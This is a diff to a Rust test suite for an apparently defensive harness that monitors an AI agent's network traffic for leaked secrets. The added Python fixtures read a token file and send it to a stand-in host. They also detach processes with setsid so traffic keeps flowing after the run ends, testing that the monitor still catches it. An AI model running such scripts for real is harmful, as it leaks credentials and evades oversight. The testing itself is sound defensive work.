@@ -3,7 +3,7 @@
 use std::sync::Arc;
 
 use libtest_mimic::Trial;
-use redroom::{Limits, Redroom, Result, RunOptions, Suite};
+use redroom::{Hit, Limits, Redroom, Result, RunOptions, Suite};
 
 use crate::{start, trial};
 
@@ -19,6 +19,11 @@ pub(crate) fn trials() -> Vec<Trial> {
             "side_by_side::what_was_still_on_the_way_belongs_to_the_run_that_sent_it",
             || Suite::new().parallel(1),
             late_requests,
+        ),
+        trial(
+            "side_by_side::every_byte_that_was_sent_before_the_end_is_searched",
+            || Suite::new().parallel(1),
+            bytes_on_the_way,
         ),
         trial(
             "side_by_side::a_slot_that_saw_violence_serves_the_next_run",
@@ -75,15 +80,18 @@ async fn one_after_the_other(redroom: Arc<Redroom>) -> Result<()> {
 
 async fn late_requests(redroom: Arc<Redroom>) -> Result<()> {
     let one = start(&redroom, "one").await?;
-    // More connections than the sidecar takes at a time: the request of the last one waits in the kernel.
+    // More connections than the sidecar takes at a time, then a body and a head that never come to their end, and a whole
+    // request that nobody waits for.
     let leave = r#"
 import os, socket, time
 token = open("token", "rb").read()
-head = b"POST /open HTTP/1.1\r\nHost: late.redroom.test\r\nContent-Length: 1000000\r\n\r\n"
-first = socket.create_connection(("1.1.1.1", 80)); first.sendall(head + token)
-idle = [socket.create_connection(("1.1.1.1", 80)) for _ in range(600)]
-last = socket.create_connection(("1.1.1.1", 80))
-last.sendall(b"POST /waiting HTTP/1.1\r\nHost: late.redroom.test\r\nContent-Length: %d\r\n\r\n" % len(token) + token)
+def connect(): return socket.create_connection(("1.1.1.1", 80))
+def post(path, length): return b"POST /%s HTTP/1.1\r\nHost: late.redroom.test\r\nContent-Length: %d\r\n\r\n" % (path, length)
+idle = [connect() for _ in range(600)]
+body, head, whole = connect(), connect(), connect()
+body.sendall(post(b"open", 1000000) + token)
+head.sendall(b"GET /half-" + token)
+whole.sendall(post(b"waiting", len(token)) + token)
 print("left", flush=True)
 if os.fork() == 0:
     os.setsid()
@@ -95,17 +103,58 @@ os._exit(0)
     let turn = one.send(format!("python3 - <<'END'{leave}END")).await?;
     assert_eq!(turn.final_text, "left\n", "{}", turn.stderr);
     let first = one.finish().await?;
-    for path in ["/open", "/waiting"] {
-        let hit = first.hits.iter().find(|hit| hit.path == path);
-        let hit = hit.unwrap_or_else(|| panic!("{path} is not among {} hits", first.hits.len()));
-        assert!(!hit.secrets.is_empty(), "{hit:?}");
-    }
+    let seen = |what: &str, wanted: fn(&Hit) -> bool| {
+        let hit = first.hits.iter().find(|hit| wanted(hit) && !hit.secrets.is_empty());
+        hit.unwrap_or_else(|| panic!("{what} is not among {} hits", first.hits.len()))
+    };
+    assert!(seen("the whole request", |hit| hit.path == "/waiting").complete);
+    assert!(seen("the body that broke off", |hit| hit.path == "/open").fault.is_some());
+    seen("the head that broke off", |hit| hit.body.to_text().contains("/half-"));
     let two = start(&redroom, "two").await?;
     two.send("curl -sS -o /dev/null http://page.redroom.test/").await?;
     let second = two.finish().await?;
     assert!(second.hits.iter().all(|hit| hit.host == "page.redroom.test"), "{:?}", second.hits);
     assert_eq!((second.leaks().len(), second.errors.as_slice()), (0, &[][..]));
     assert!(redroom.unattributed_hits().is_empty(), "{:?}", redroom.unattributed_hits());
+    Ok(())
+}
+
+/// The agent writes faster than anybody can search, so that megabytes are on their way when it is frozen.
+async fn bytes_on_the_way(redroom: Arc<Redroom>) -> Result<()> {
+    let run = start(&redroom, "writer").await?;
+    let write = r#"
+import os, socket
+sent = os.open("sent", os.O_RDWR | os.O_CREAT)
+parent, child = os.pipe()
+if os.fork() == 0:
+    os.setsid()
+    null = os.open("/dev/null", os.O_RDWR)
+    for fd in range(3): os.dup2(null, fd)
+    connections = [socket.create_connection(("1.1.1.1", 80)) for _ in range(16)]
+    for c in connections:
+        c.sendall(b"POST /bytes HTTP/1.1\r\nHost: late.redroom.test\r\nContent-Length: 1000000000000\r\n\r\n")
+        c.setblocking(False)
+    total, chunk = 0, b"x" * 65536
+    while True:
+        for c in connections:
+            try: total += c.send(chunk)
+            except BlockingIOError: continue
+            os.pwrite(sent, b"%d\n" % total, 0)
+            if child and total > 64_000_000:
+                os.close(child); child = 0
+os.close(child); os.read(parent, 1)
+"#;
+    run.send(format!("python3 - <<'END'{write}END")).await?;
+    let result = run.finish().await?;
+    let sent = result.diff.lines().find_map(|line| line.strip_prefix('+')?.parse::<u64>().ok());
+    let sent = sent.unwrap_or_else(|| panic!("nothing says how much was sent: {}", result.diff));
+    let bodies: Vec<&Hit> = result.hits.iter().filter(|hit| hit.path == "/bytes").collect();
+    assert_eq!(bodies.len(), 16);
+    let open = bodies.iter().filter(|hit| hit.fault.is_none() || hit.complete).count();
+    assert_eq!(open, 0, "that many bodies were not read to where they broke off");
+    let searched: u64 = bodies.iter().map(|hit| hit.body_bytes).sum();
+    assert!(searched >= sent, "{searched} of {sent} bytes were searched");
+    assert_eq!(result.errors, []);
     Ok(())
 }
 
